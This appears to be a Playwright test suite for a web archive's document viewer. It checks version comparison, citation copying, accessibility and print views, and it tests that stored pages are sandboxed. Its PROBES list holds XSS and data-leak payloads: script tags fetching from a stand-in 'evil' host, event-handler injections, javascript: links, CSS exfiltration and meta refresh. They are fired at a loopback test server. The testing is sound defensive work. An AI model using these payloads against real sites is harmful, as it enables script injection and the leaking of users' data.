"""The page of a document in Chromium: read, compared, checked, cited by keyboard and phone; and what stored pages may not do."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.browsing import Log, assert_accessible, assert_fits, needs_chromium, served
from tests.document_room import REPORT, SHORT, build
from tests.factories import begin, finish, keep, make_document, make_page, make_section, open_archive

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = needs_chromium


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with served(build(tmp_path_factory.mktemp("document") / "archive.db")) as address:
        yield address


def test_a_reader_compares_checks_and_follows_a_cell(page: Page, address: str) -> None:
    log = Log.of(page)
    page.goto(f"/-/document/{REPORT}")
    assert page.locator("#changed-numbers td").all_inner_texts()[:2] == ["3259", "3260"]
    assert page.locator(".diff .differs").all_inner_texts() == ["3259 3260"]
    page.get_by_role("link", name="Side by side").click()
    assert page.url.endswith("?old=1&new=2&view=side#changed")
    assert page.locator(".sides .differs").all_inner_texts() == ["3259 3260"]
    page.get_by_role("link", name="In line").click()
    page.locator("#checks ~ .scroll summary").first.click()
    assert page.locator("[id='check-columns_balance.total']").is_visible()
    page.locator("[id='check-columns_balance.total'] a").first.click()
    fact = page.locator("[id='fact-applications.received.total']")
    assert fact.is_visible()  # its fold was opened
    fact.get_by_role("link", name="table").click()
    assert page.url.endswith("#cell-1-3-9")
    assert page.locator("#cell-1-3-9").inner_text().split()[0] == "17"
    page.locator("[id='form-applications.received.total'] .flags a").first.click()
    assert page.url.endswith("#check-columns_balance.total")
    log.assert_clean(address)


def test_a_citation_is_copied_with_one_click(browser: Browser, address: str) -> None:
    context = browser.new_context(base_url=address, permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    page.goto(f"/-/document/{REPORT}")
    page.get_by_role("button", name="Copy citation").click()
    page.get_by_role("button", name="Copied").wait_for()
    copied: str = page.evaluate("navigator.clipboard.readText()")
    assert copied == page.locator("#cite-text").inner_text()
    assert "[EB/OL]" in copied
    assert page.get_by_role("status").inner_text() == "Copied"
    context.close()


def test_without_javascript_nothing_is_missing(browser: Browser, address: str) -> None:
    context = browser.new_context(base_url=address, java_script_enabled=False)
    page = context.new_page()
    page.goto(f"/-/document/{REPORT}#fact-penalties.decisions")
    assert page.locator("[id='fact-penalties.decisions']").is_visible()
    assert page.get_by_role("button", name="Copy citation").count() == 0
    assert "[EB/OL]" in page.locator("#cite-text").inner_text()
    context.close()


def test_a_repair_leads_to_its_kind_and_confidence(page: Page) -> None:
    page.goto(f"/-/document/{REPORT}")
    page.locator(".text .repair").first.click()
    assert page.locator("#repair-1").inner_text().split()[-3:-1] == ["98%", "36"]
    assert page.locator("#repair-1").is_visible()


@pytest.mark.parametrize(
    ("query", "scheme"), [("", "light"), ("?view=side&lang=zh", "dark"), ("?capture=page", "light")]
)
def test_it_can_be_read_by_everyone(page: Page, query: str, scheme: Any) -> None:
    page.emulate_media(color_scheme=scheme)
    page.goto(f"/-/document/{SHORT}{query}")
    page.evaluate("document.querySelectorAll('details').forEach(fold => { fold.open = true })")
    assert_accessible(page)
    for width in (1280, 360):
        assert_fits(page, width)


def test_paper_shows_text_and_tables_and_no_buttons(page: Page) -> None:
    page.emulate_media(media="print")
    page.goto(f"/-/document/{REPORT}?capture=page")
    assert page.locator(".text p").first.is_visible()
    for hidden in (".actions", ".choices", ".captured", ".toc"):
        assert not page.locator(hidden).first.is_visible()


# Stored pages that mean harm, shown beside the reading

PROBES = (
    "<script>parent.hit=1;fetch('{evil}/script')</script>",
    "<img src='{evil}/img' onerror='parent.hit=1'>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit=1'><image href='{evil}/svg'/><script>parent.hit=1</script></svg>",
    "<a id='js' href='javascript:parent.hit=1'>点击</a><a id='out' href='{evil}/link' target='_top'>外链</a>",
    "<style>@import '{evil}/import';*{{background:url({evil}/css)}}a[href^=j]{{background:url({evil}/leak)}}</style>",
    "<link rel='stylesheet' href='{evil}/sheet'><link rel='prefetch' href='{evil}/prefetch'>",
    "<base href='{evil}/base/'><meta http-equiv='refresh' content='0;url={evil}/refresh'>",
    "<iframe src='{evil}/frame'></iframe><object data='{evil}/object'></object><embed src='{evil}/embed'>",
    "<form action='{evil}/form'><input autofocus onfocus='parent.hit=1'><button>提交</button></form>",
    "<video src='{evil}/video' poster='{evil}/poster'></video><body background='{evil}/body' onload='parent.hit=1'>",
    "<p style='background:url({evil}/inline)'>{{{{ 7 * 7 }}}}</p>",
)


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    """A host of strangers on loopback, and what was asked of it."""
    asked: list[str] = []

    class Stranger(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def harmful(path: Path, host: str) -> Path:
    """An archive of one page full of probes, which its text, tables and titles repeat."""
    source = "<html><body>" + "".join(PROBES).format(evil=host) + "</body></html>"
    with open_archive(path) as archive:
        for day in (0, 1):
            crawl = begin(archive, day)
            said = f"{source}{day}"
            sections = (make_section(said, heading=source),)
            document = make_document(said, title=source, charset="utf-8", sections=sections)
            keep(archive, crawl, make_page(said, day=day), document)
            finish(archive, crawl, day)
    return path


@pytest.mark.parametrize("capture", ["page", "source"])
@pytest.mark.parametrize("view", ["inline", "side"])
def test_the_capture_beside_the_text_runs_nothing_and_fetches_nothing(
    browser: Browser, tmp_path: Path, evil: tuple[str, list[str]], capture: str, view: str
) -> None:
    host, asked = evil
    with served(harmful(tmp_path / "archive.db", host)) as address:
        context = browser.new_context(base_url=address)
        page = context.new_page()
        log = Log.of(page)
        page.goto(f"/-/document/1?capture={capture}&view={view}")
        page.evaluate("document.querySelectorAll('details').forEach(fold => { fold.open = true })")
        frame = page.frames[1]
        frame.wait_for_load_state()
        assert frame.url == f"{address}/-/capture/2/{capture}"
        assert "点击" in frame.locator("body").inner_text()
        page.wait_for_timeout(300)  # for whatever a script or a refresh would do next
        assert page.evaluate("window.hit") is None
        assert page.evaluate("document.querySelector('iframe').contentDocument") is None  # another origin
        log.assert_clean(address)
        if capture == "page":  # a link of the page leads its frame nowhere, and the window not at all
            frame.get_by_text("外链").click()
            page.wait_for_timeout(300)
        assert page.url == f"{address}/-/document/1?capture={capture}&view={view}"
        assert asked == []
        assert [url for url in log.requests if not url.startswith(f"{address}/")] == []
        context.close()


def test_no_other_site_may_frame_the_page_or_the_capture(page: Page, address: str, tmp_path: Path) -> None:
    (tmp_path / "frame.html").write_text(
        f"<iframe src='{address}/-/capture/1/page'></iframe><iframe src='{address}/-/document/1'></iframe>"
    )
    page.goto((tmp_path / "frame.html").as_uri())
    page.wait_for_timeout(300)
    assert {frame.url for frame in page.frames[1:]} <= {"chrome-error://chromewebdata/", ""}
